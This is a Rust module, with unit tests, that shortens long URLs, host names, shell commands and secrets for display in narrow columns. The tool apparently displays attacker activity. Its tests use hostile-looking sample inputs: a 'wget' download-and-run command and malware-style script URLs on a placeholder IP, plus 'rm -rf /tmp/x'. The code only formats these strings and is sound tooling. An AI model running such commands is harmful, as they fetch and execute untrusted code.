//! Long names in few columns: the middle gives way, but what tells most of a name depends on what
//! it is. The whole name is in the tooltip and in the tables.
//!
//! Linear in what is kept: of a name of any length only its beginning and its end are looked at.

use super::measure::Fonts;
use super::units::{self, Unit};

/// What a name looks like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// `http://host/path`: who serves it and what it is called; the path between gives way.
    Address,
    /// `a.b.example.com`: the end says whose it is.
    Host,
    /// Words, or a path: the beginning says what is done.
    Command,
    /// Passwords, fingerprints: the beginning and the end alike.
    Other,
}

impl Kind {
    fn of(name: &str) -> Self {
        if name.contains([' ', '\t']) || name.starts_with('/') {
            return Kind::Command;
        }
        if head(name, LONGEST_SCHEME).contains("://") {
            return Kind::Address;
        }
        let is_of_host =
            |character: char| character.is_alphanumeric() || ".-_:".contains(character);
        let dots = name.matches('.').count();
        if dots > 0 && name.len() <= LONGEST_HOST && name.chars().all(is_of_host) {
            return Kind::Host;
        }
        Kind::Other
    }

    /// The columns of the beginning, of those that are left beside the sign of what was left out.
    fn head(self, columns: usize) -> usize {
        match self {
            Kind::Host => columns / 3,
            Kind::Command => columns - columns / 3,
            Kind::Address | Kind::Other => columns - columns / 2,
        }
    }
}

/// No scheme that anybody uses is longer, its colon and slashes included.
const LONGEST_SCHEME: usize = 20;

/// The longest host name of DNS, with a port.
const LONGEST_HOST: usize = 260;

/// A unit is a letter with its marks: no more characters than this.
const CHARACTERS_PER_UNIT: usize = 4;

/// A name, drawable, in at most so many columns.
pub(super) fn name(fonts: &Fonts, name: &str, longest: usize) -> String {
    let kind = Kind::of(name);
    if kind != Kind::Address || !wider(name, longest) {
        return cut(fonts, name, longest, kind);
    }
    let name = without_scheme(name);
    address(fonts, name, longest).unwrap_or_else(|| cut(fonts, name, longest, kind))
}

/// Does the name have more characters than that?
fn wider(name: &str, columns: usize) -> bool {
    name.chars().nth(columns).is_some()
}

/// The scheme that every browser assumes says nothing.
fn without_scheme(url: &str) -> &str {
    url.strip_prefix("http://").or_else(|| url.strip_prefix("https://")).unwrap_or(url)
}

/// `host/…/file`, if that fits.
fn address(fonts: &Fonts, url: &str, longest: usize) -> Option<String> {
    if !wider(url, longest) {
        return None;
    }
    let (host, path) = url.split_once('/')?;
    let (_, file) = path.trim_end_matches('/').rsplit_once('/')?;
    if wider(host, longest) || wider(file, longest) || host.is_empty() || file.is_empty() {
        return None;
    }
    let short = [host, "/…/", file].map(|part| units::units(fonts, part)).concat();
    (columns(&short) <= longest).then(|| joined(&short))
}

fn cut(fonts: &Fonts, name: &str, longest: usize, kind: Kind) -> String {
    let window = CHARACTERS_PER_UNIT * (longest + 1);
    if !wider(name, 2 * window) {
        let units = units::units(fonts, name);
        if columns(&units) <= longest {
            return joined(&units);
        }
    }
    let left = longest.saturating_sub(1);
    let first = units::units(fonts, head(name, window));
    let first = within(first.iter(), kind.head(left));
    let last = units::units(fonts, tail(name, window));
    let last = within(last.iter().rev(), left.saturating_sub(columns(&first)));
    let last: Vec<Unit<'_>> = last.into_iter().rev().collect();
    format!("{}…{}", joined(&first), joined(&last))
}

fn within<'a, 'b: 'a>(units: impl Iterator<Item = &'a Unit<'b>>, most: usize) -> Vec<Unit<'b>> {
    let mut left = most;
    let fits = |unit: &&Unit<'b>| {
        let fits = unit.columns <= left;
        left -= unit.columns.min(left);
        fits
    };
    units.take_while(fits).cloned().collect()
}

fn columns(units: &[Unit<'_>]) -> usize {
    units.iter().map(|unit| unit.columns).sum()
}

fn joined(units: &[Unit<'_>]) -> String {
    units.iter().map(|unit| &*unit.text).collect()
}

/// The first characters.
fn head(name: &str, count: usize) -> &str {
    name.char_indices().nth(count).map_or(name, |(end, _)| &name[..end])
}

/// The last characters.
fn tail(name: &str, count: usize) -> &str {
    match count.checked_sub(1).and_then(|before| name.char_indices().nth_back(before)) {
        Some((start, _)) => &name[start..],
        None => name,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn short(text: &str) -> String {
        name(&Fonts::embedded(), text, 26)
    }

    #[test]
    fn what_fits_is_whole() {
        for text in ["", "192.0.2.1", "http://a.example/x.sh", "rm -rf /tmp/x", "例え.example"] {
            assert_eq!(short(text), text);
        }
    }

    #[test]
    fn each_kind_keeps_what_tells_most() {
        for (long, shown) in [
            ("http://198.51.100.7/bins/arm/x.sh", "198.51.100.7/bins/arm/x.sh"),
            ("http://198.51.100.7/a/very/long/way/to/x86.sh", "198.51.100.7/…/x86.sh"),
            ("ec2-54-200-100-7.us-west-2.compute.amazonaws.com", "ec2-54-2…ute.amazonaws.com"),
            ("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "cd /tmp; wget htt… sh x.sh"),
            ("0123456789abcdef0123456789abcdef", "0123456789abc…456789abcdef"),
        ] {
            let text = short(long);
            assert!(text.chars().count() <= 26, "{text}");
            assert_eq!(text, shown);
        }
    }

    #[test]
    fn wide_letters_count_twice_and_marks_do_not_count() {
        assert_eq!(short(&"例".repeat(20)).chars().filter(|c| *c == '例').count(), 12);
        let pointed = "בְּ".repeat(26);
        assert_eq!(short(&pointed), pointed);
    }

    #[test]
    fn an_escape_is_never_cut() {
        let text = short(&"\u{202e}".repeat(50));
        assert_eq!(text, "\\u{202e}…\\u{202e}\\u{202e}");
        let heap = format!("a{}b", "\u{301}".repeat(1_000_000));
        assert!(short(&heap).chars().count() <= 26 + 3);
    }
}
